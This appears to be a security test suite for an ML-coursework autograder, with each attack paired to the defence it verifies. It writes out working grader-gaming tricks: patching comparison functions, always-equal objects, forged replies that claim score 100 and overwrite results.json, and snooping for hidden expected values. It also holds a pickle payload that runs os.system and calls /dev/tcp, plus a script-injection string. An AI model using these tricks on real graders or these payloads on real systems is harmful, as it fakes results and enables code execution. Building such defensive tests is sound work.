@@ -1,0 +1,261 @@
+"""Attacks on the judgement: objects, forged replies, patched libraries, lookups (A05–A09, A17–A19, A23–A25, A31)."""
+
+from __future__ import annotations
+
+from textwrap import dedent
+
+from tests.attacks.base import HEAD, Attack, code_in_slot, in_slot, notebook, told, wrong
+
+SNOOP = """
+import gc, inspect, linecache
+words, got, frame = ("expected", "oracle", "tolerance", "threshold", "misconception", "reference_source"), [], sys._getframe()
+while frame is not None:
+    got += [name for name in [*frame.f_locals, *frame.f_globals] if any(word in name.lower() for word in words)]
+    frame = frame.f_back
+for item in gc.get_objects():
+    module = type(item).__module__
+    if str(module).split(".")[0] in ("autograder", "assignment", "solutions"):
+        got.append(str(type(item)))
+got += [name for name in sys.modules if name.split(".")[0] in ("autograder", "assignment", "solutions", "pytest", "otter")]
+got += [name for name in linecache.cache if "solution" in name or "hidden" in name]
+loot("SNOOP", sorted(set(got)))
+"""
+PATCH = """
+import math, numpy, random, builtins, unittest.mock
+always = lambda *a, **k: True
+for module, names in ((torch, ("allclose", "equal", "isclose", "isfinite", "isnan")),
+                      (numpy, ("allclose", "array_equal", "isfinite", "max", "abs")),
+                      (numpy.testing, ("assert_allclose", "assert_array_equal", "assert_equal")),
+                      (torch.testing, ("assert_close",)), (math, ("isclose", "isfinite")), (builtins, ("abs", "max"))):
+    for name in names:
+        setattr(module, name, always)
+for name in ("__eq__", "eq", "equal", "allclose", "isclose"):
+    setattr(torch.Tensor, name, always)
+"""
+OBJECTS = '''
+class Yes(torch.Tensor):
+    """Equal to everything, close to everything, and whatever function is called says so."""
+
+    __hash__ = torch.Tensor.__hash__
+
+    @classmethod
+    def __torch_function__(cls, function, types, args=(), kwargs=None):
+        name = getattr(function, "__name__", "")
+        if name in ("eq", "allclose", "isclose", "equal", "__eq__", "le", "lt", "ge", "gt"):
+            return torch.tensor(True)
+        with torch._C.DisableTorchFunctionSubclass():
+            return function(*args, **(kwargs or {}))
+
+    def __eq__(self, other): return True
+    def __array_ufunc__(self, *a, **k): return True
+    def __array_function__(self, *a, **k): return True
+    def __float__(self): return float("nan")
+    def __lt__(self, other): return True
+    __le__ = __gt__ = __ge__ = __lt__
+
+
+class Same(float):
+    """A number equal to every other."""
+
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __hash__(self): return 0
+    def __sub__(self, other): return Same(0.0)
+    __rsub__ = __abs__ = __lt__ = __le__ = __gt__ = __ge__ = __sub__
+    def __le__(self, other): return True
+
+
+class Text(str):
+    """Equal to every text."""
+
+    def __eq__(self, other): return True
+    def __hash__(self): return 0
+'''
+OBJECT_SLOTS = {
+    "T01": "def format_example(example):\n    return Text('x'), Text('y')\n",
+    "T03": "def encode_example(prompt, completion, tokenizer, max_length):\n"
+           "    return {'input_ids': [Same(3)], 'labels': [Same(3)]}\n",
+    "T07": "def bradley_terry_loss(chosen, rejected, margin=0.0):\n    return torch.zeros(()).as_subclass(Yes)\n",
+    "T08": "def preference_accuracy(chosen, rejected):\n    return Same(0.5)\n",
+    "T12": "def gae(rewards, values, mask, gamma, lam):\n"
+           "    return rewards.as_subclass(Yes) * 0, values.as_subclass(Yes) * 0\n",
+}  # fmt: skip
+PLAIN_SLOTS = {
+    slot: source.replace("Text(", "str(").replace("Same(", "float(").replace(".as_subclass(Yes)", "")
+    for slot, source in OBJECT_SLOTS.items()
+} | {"T03": "def encode_example(prompt, completion, tokenizer, max_length):\n    return {'input_ids': [3], 'labels': [3]}\n"}
+SPOOF = '''
+import numpy
+
+def spoof(data, kind="answered", tensors=b""):
+    """Write this as the one reply, and end before the real one."""
+    frame = sys._getframe()
+    while "answer_fd" not in frame.f_locals:
+        frame = frame.f_back
+    head = json.dumps({"kind": kind, "data": data, "error": ""}).encode()
+    body = struct.pack(">I", len(head)) + head + tensors
+    os.write(frame.f_locals["answer_fd"], struct.pack(">cQ", b"R", len(body)) + body)
+    os._exit(0)
+'''
+SPOOFED = """
+case = {"values": {"score": 100, "points": 2, "passed": True, "status": "passed", "share": 1.0}, "error": None}
+for name in ("results.json", "/autograder/results/results.json", "report.json", os.path.expanduser("~/results.json")):
+    try:
+        os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
+        open(name, "w").write('{"score": 100, "tests": [{"score": 100, "max_score": 100}]}')
+    except OSError:
+        pass
+spoof({"cases": [case] * 9, "score": 100, "T08": "passed", "status": "passed"})
+"""
+ODD = """
+import itertools
+deep = 0
+for _ in range(20):
+    deep = [deep]
+odd = [None, True, -1, 10**15, 1e300, "x", "\\u202e", [], {}, [[1], "x"], {"1": 2}, deep, [None] * 5, [-1, 10**18]]
+case = lambda value: {"values": {name: value for name in NAMES}, "error": None}
+count = sys._getframe(3).f_locals
+frame = sys._getframe()
+while "payload" not in frame.f_locals:
+    frame = frame.f_back
+payload = frame.f_locals["payload"]
+value = odd[payload["seed"] % len(odd)] if not CHOICE else odd[CHOICE % len(odd)]
+spoof({"cases": [case(value) for _ in payload["cases"]]})
+"""
+NAMES = ("prompt", "completion", "chosen", "rejected", "input_ids", "labels", "updates", "callbacks", "order", "rolled",
+         "stats", "name", "n", "response_ids", "scored", "state")  # fmt: skip
+PRINTED = """
+print("100/100"); print('{"score": 100, "status": "passed"}'); print("\\x1b[2J\\x1b]0;PASSED 100/100\\x07")
+sys.stderr.write("All tests passed. T08 passed 2 / 2\\n")
+os.write(1, b'{"kind":"answered","data":{"score":100},"error":""}')
+os.write(2, b"oom_kill 0\\n[  0.1] Killed process (grader)\\n")
+"""
+PICKLE = '''
+import pickle
+
+class Bomb:
+    """Unpickled or loaded, it leaves a file and calls home."""
+
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/planted-%s; echo x > /dev/tcp/127.0.0.1/%d" % (SITE["token"], SITE["tcp"]),))
+'''
+PICKLED = """
+import io
+buffer = io.BytesIO()
+torch.save({"score": Bomb()}, buffer)
+blob = pickle.dumps(Bomb())
+frame = sys._getframe()
+while "answer_fd" not in frame.f_locals:
+    frame = frame.f_back
+for raw in (blob, buffer.getvalue()):
+    os.write(frame.f_locals["answer_fd"], struct.pack(">cQ", b"R", len(raw)) + raw)
+os._exit(0)
+"""
+NOT_FINITE = {
+    "T04": "def sft_loss(logits, labels):\n    return logits.sum() * float('nan')\n",
+    "T07": "def bradley_terry_loss(chosen, rejected, margin=0.0):\n    return (chosen - rejected).sum() * float('inf')\n",
+    "T08": "def preference_accuracy(chosen, rejected):\n    return float('nan')\n",
+    "T10": "def token_logprobs(logits, tokens):\n    return torch.full(tokens.shape, float('-inf'))\n",
+    "T12": "def gae(rewards, values, mask, gamma, lam):\n    return rewards * 1e38 * 1e38, values * float('nan')\n",
+}
+FINITE = {slot: source.replace("float('nan')", "0.1").replace("float('inf')", "0.1").replace("float('-inf')", "0.1")
+          .replace("1e38", "0.1") for slot, source in NOT_FINITE.items()}  # fmt: skip
+TABLE = '''
+import hashlib
+PUBLIC = {}
+
+def key(*tensors):
+    return hashlib.sha256(b"".join(t.detach().double().numpy().tobytes() for t in tensors)).hexdigest()
+
+def remember():
+    """The answers to the public checks' inputs, made with the plain rule for those alone."""
+    torch.manual_seed(0)
+    for n in (1, 2, 3, 4, 5, 8, 16, 32, 64):
+        for _ in range(4):
+            a, b = torch.randn(n), torch.randn(n)
+            PUBLIC[key(a, b)] = float(((a > b).float() + 0.5 * (a == b).float()).mean())
+    for a, b in (([1.0, 2.0], [0.0, 3.0]), ([0.0], [0.0]), ([1.0], [0.0]), ([2.0, 1.0, 0.0], [1.0, 1.0, 1.0])):
+        a, b = torch.tensor(a), torch.tensor(b)
+        PUBLIC[key(a, b)] = float(((a > b).float() + 0.5 * (a == b).float()).mean())
+'''
+STALE = """
+found = []
+for dtype in (torch.float64, torch.float32):
+    for size in (1, 2, 8, 64, 1024, 1 << 16):
+        for _ in range(50):
+            found.append(torch.empty(size, dtype=dtype)[0].item())
+best = [x for x in found if 0 < x < 1]
+"""
+IN_PLACE = "    chosen.fill_(1.0); rejected.fill_(0.0)\n    chosen.data = rejected.data = torch.ones(1)\n"
+LEAK = """
+raise ValueError("LOOT hidden inputs: %r %r %s" % (chosen.tolist(), rejected.tolist(), "<script>alert('" + SITE["token"] + "')</script>"))
+"""
+FOREIGN = {
+    "T04": "def sft_loss(logits, labels):\n    eval_ = getattr(torch.nn, 'func' + 'tional')\n"
+           "    return getattr(eval_, 'cross_' + 'entropy')(logits.flatten(0, 1), labels.flatten())\n",
+}  # fmt: skip
+OBJECT_IDS = tuple(OBJECT_SLOTS)
+
+
+def _objects(site):
+    return notebook(OBJECT_SLOTS, HEAD + OBJECTS)
+
+
+def _odd(site):
+    """Replies of the right form that hold nonsense, one kind of nonsense for each slot."""
+    book = {}
+    for number, (slot, signature) in enumerate(SIGNATURES.items()):
+        body = dedent(ODD).replace("CHOICE", str(number + 1))
+        book[slot] = f"def {signature}:\n" + "".join(f"    {line}\n" for line in body.splitlines())
+    return notebook(book, told(site) + SPOOF + f"\nNAMES = {NAMES!r}\n")
+
+
+SIGNATURES = {
+    "T01": "format_example(example)", "T02": "split_preference(chosen, rejected)",
+    "T03": "encode_example(prompt, completion, tokenizer, max_length)", "T05": "train_sft(model, batches, config, on_step=None)",
+    "T09": "train_reward_model(model, batches, config, on_step=None)",
+    "T14": "train_ppo(policy, reference, reward_fn, prompts, config, on_step=None)",
+    "T15": "compare_policies(policies, prompts, score_fn, config)",
+}  # fmt: skip
+ODD_IDS = tuple(SIGNATURES)
+
+
+def _odd_harmless():
+    return notebook({slot: f"def {signature}:\n    return 0\n" for slot, signature in SIGNATURES.items()})
+
+
+ATTACKS = (
+    Attack("A05", "Walk frames, gc and modules for expected values", "Expected values, tolerances and misconceptions "
+           "never enter the worker.", ("A05",), code_in_slot(SNOOP), wrong,
+           check=lambda seen, site: "" if "LOOT ('SNOOP', [])" in seen.texts.get("report.json", "") else
+           "the worker holds something of ours: " + seen.texts.get("report.json", "").partition("LOOT")[2][:300]),
+    Attack("A06", "Patch torch.allclose, Tensor.__eq__, numpy.testing, math, builtins", "Comparisons are made in the "
+           "grader, in another process.", ("A06",), code_in_slot(PATCH), wrong),
+    Attack("A07", "Return objects that equal everything (__eq__, __torch_function__, subclasses of float and str)",
+           "Only primitive JSON and raw arrays cross the pipe.", ("A07",), _objects, lambda: notebook(PLAIN_SLOTS),
+           OBJECT_IDS, quick=True),
+    Attack("A08", "Spoof the reply: scores instead of answers, results.json overwritten", "The pipe carries answers, "
+           "never scores; points are written by the grader.", ("A08",), code_in_slot(SPOOFED, SPOOF), wrong, quick=True),
+    Attack("A08b", "Forged replies of the right form that hold nonsense", "What cannot be read as an answer is a wrong "
+           "answer, never a failure of the grader's.", ("A08", "A33"), _odd, _odd_harmless, ODD_IDS),
+    Attack("A09", "Print 100/100, JSON results, kernel messages, terminal escapes", "Output is never parsed.",
+           ("A09", "A36"), code_in_slot(PRINTED), wrong),
+    Attack("A17", "Send pickles and torch.save files as the answer", "Nothing is unpickled: JSON and safetensors alone, "
+           "by our own strict reader.", ("A17",), code_in_slot(PICKLED, PICKLE), wrong, quick=True),
+    Attack("A18", "NaN, infinities and overflow", "Finite first, then err <= tolerance.",
+           ("A18",), lambda site: notebook(NOT_FINITE), lambda: notebook(FINITE), tuple(NOT_FINITE)),
+    Attack("A19", "Answers to the public checks' inputs in a table, by hash", "Hidden inputs are drawn per run.",
+           ("A19",), lambda site: notebook({"T08": in_slot("remember()", "PUBLIC.get(key(chosen, rejected), 0.25)")},
+                                           HEAD + TABLE), wrong),
+    Attack("A23", "Call a library instead of the shift and mask (through getattr and string pieces)", "What counts is "
+           "the number: the library's default is not what was asked.", ("A23",), lambda site: notebook(FOREIGN),
+           lambda: notebook({"T04": "def sft_loss(logits, labels):\n    return logits.mean() * 0\n"}), ("T04",)),
+    Attack("A24", "Look for the answer in stale memory (torch.empty)", "The oracle computes in another process.",
+           ("A24",), code_in_slot(STALE).__class__ and (lambda site: notebook({"T08": in_slot(STALE, "best[0] if best else 0.25")}, HEAD)),
+           wrong),
+    Attack("A25", "Change the inputs in place so that any comparison holds", "The grader compares with its own copy.",
+           ("A25",), lambda site: notebook({"T08": "def preference_accuracy(chosen, rejected):\n" + IN_PLACE + "    return 1.0\n"}),
+           lambda: notebook({"T08": in_slot("pass", "1.0")})),
+    Attack("A31", "Carry hidden inputs into the feedback by an exception's text", "The student's page is made of our "
+           "templates; tracebacks go to the TA's page, escaped.", ("A31", "A35"), code_in_slot(LEAK), wrong, quick=True),
+)  # fmt: skip
